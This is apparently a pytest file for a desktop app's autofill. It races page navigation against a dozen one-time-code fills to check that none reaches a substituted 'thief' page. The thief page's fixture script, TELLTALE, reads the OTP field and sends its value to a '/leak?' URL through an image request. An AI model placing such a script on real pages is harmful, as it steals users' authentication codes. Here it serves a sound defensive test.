"""Navigation racing the filling. `TRACKOPS_RACES=500` runs the full number."""

from __future__ import annotations

import os
import random

from PySide6.QtCore import QTimer

from tests.web.kit import CANARY, Host, Viewer, hosting
from trackops_desktop.signin.page_intent import found_fields

FILLS = 12
RACES = int(os.environ.get("TRACKOPS_RACES", "40"))
FORM = "<h1>Two-factor authentication</h1><form method=post><label>Code<input id=c name=otp maxlength=6></label></form>"
TELLTALE = """<script>
  const tell = () => { const value = document.querySelector('#c').value;
    if (value) new Image().src = '/leak?' + value; };
  document.addEventListener('input', tell, true);
  document.addEventListener('change', tell, true);
  setInterval(tell, 5);
</script>"""


def race(viewer: Viewer, bound: Host, thief: Host, number: int, chance: random.Random) -> None:
    """Let the page jump away while a dozen fills are on their way, and see that none of them lands."""
    target = f"{thief.url}/?{number}"
    jump = f"window.go = () => setTimeout(() => location.replace('{target}'), {chance.uniform(0, 12)})"
    bound.pages["/"] = f"{FORM}<script>{jump}</script>"
    seen = viewer.open(f"{bound.url}/")
    pairs = [(found.field.handle, CANARY) for found in found_fields(seen.question)]
    answers: list[object] = []

    def fill() -> None:
        viewer.view._calls.call("fill", (bound.url, seen.report.document, pairs), answers.append)

    viewer.view._page.runJavaScript("go()", 0)
    for _ in range(FILLS):
        QTimer.singleShot(int(chance.uniform(0, 25)), viewer.view, fill)
    viewer.until(lambda: viewer.seen is not None and viewer.seen.report.url == target and len(answers) == FILLS)
    assert viewer.in_page("document.querySelector('#c').value") == ""


def test_no_fill_reaches_a_page_that_a_race_has_put_in_place_of_the_bound_one(viewer: Viewer) -> None:
    chance = random.Random(20)
    with hosting({"/": FORM}, {"/": FORM + TELLTALE}) as (bound, thief):
        for number in range(RACES):
            race(viewer, bound, thief, number, chance)
        assert [asked for asked in thief.asked if "leak" in asked] == []
        assert len([asked for asked in thief.asked if asked.startswith("/?")]) == RACES
